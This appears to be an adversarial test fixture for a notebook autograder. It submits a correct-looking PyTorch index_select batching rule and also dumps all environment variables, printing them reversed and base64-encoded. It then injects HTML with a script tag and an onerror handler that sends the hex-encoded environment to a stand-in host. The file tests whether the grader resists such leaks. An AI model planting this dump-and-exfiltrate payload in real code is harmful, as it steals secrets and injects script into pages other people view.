# attack: a right answer that also displays HTML with a <script> and an onerror= handler carrying the environment
#   (hex-encoded) and prints the canary reversed and base64
# expect: full points are fine; no canary in any written file; no <script> or onerror= from the student in
#   the feedback HTML; batch continues
import base64
import os

from IPython.display import HTML, display

_env = "|".join(f"{k}={v}" for k, v in os.environ.items())
print("RTLEAK<<ENV", _env[::-1], base64.b64encode(_env.encode()).decode(), ">>")
display(HTML(f"<script>document.title='{_env.encode().hex()}'</script>"
             f"<img src=x onerror=\"fetch('http://example.invalid/?'+'{_env.encode().hex()}')\">"))


def index_select_rule(x, x_bdim, dim, index, index_bdim):
    if x_bdim is None:
        x = x.unsqueeze(0).expand(index.shape[index_bdim], *x.shape)
    else:
        x = x.movedim(x_bdim, 0)
    dim = dim % (x.ndim - 1) + 1
    if index_bdim is None:
        return torch.index_select(x, dim, index), 0
    index = index.movedim(index_bdim, 0)
    shape = [1] * x.ndim
    shape[0], shape[dim] = index.shape
    picks = index.reshape(shape).expand(*[index.shape[1] if k == dim else s for k, s in enumerate(x.shape)])
    return torch.gather(x, dim, picks), 0
